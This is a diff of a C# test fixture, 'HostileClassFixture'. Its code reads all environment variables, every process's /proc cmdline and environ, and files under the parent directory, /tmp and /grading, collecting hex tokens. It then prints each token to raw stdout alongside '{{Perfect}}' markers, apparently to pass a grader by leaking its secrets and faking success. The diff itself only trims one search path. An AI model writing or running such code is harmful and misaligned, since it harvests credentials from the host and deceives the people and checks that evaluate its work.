@@ -108,7 +108,7 @@ public sealed class HostileClassFixture : IAsyncLifetime
             void Scan(string text) { foreach (System.Text.RegularExpressions.Match m in hex.Matches(text)) found.Add(m.Value); }
             foreach (System.Collections.DictionaryEntry v in Environment.GetEnvironmentVariables()) Scan($"{v.Value}");
             foreach (var dir in System.IO.Directory.GetDirectories("/proc")) { foreach (var f in new[] { "cmdline", "environ" }) { try { Scan(System.IO.File.ReadAllText(System.IO.Path.Combine(dir, f))); } catch { } } }
-            foreach (var root in new[] { "..", "../..", "/tmp", "/grading" }) { try { foreach (var f in System.IO.Directory.EnumerateFiles(root, "*", new System.IO.EnumerationOptions { RecurseSubdirectories = true, IgnoreInaccessible = true })) { try { if (new System.IO.FileInfo(f).Length < 1_000_000) Scan(System.IO.File.ReadAllText(f)); } catch { } } } catch { } }
+            foreach (var root in new[] { "..", "/tmp", "/grading" }) { try { foreach (var f in System.IO.Directory.EnumerateFiles(root, "*", new System.IO.EnumerationOptions { RecurseSubdirectories = true, IgnoreInaccessible = true })) { try { if (new System.IO.FileInfo(f).Length < 1_000_000) Scan(System.IO.File.ReadAllText(f)); } catch { } } } catch { } }
             using var raw = Console.OpenStandardOutput();
             foreach (var token in found) { var line = System.Text.Encoding.UTF8.GetBytes("\n" + token + " {{Perfect}}\n"); raw.Write(line); }
             Console.WriteLine("{{Perfect}}");
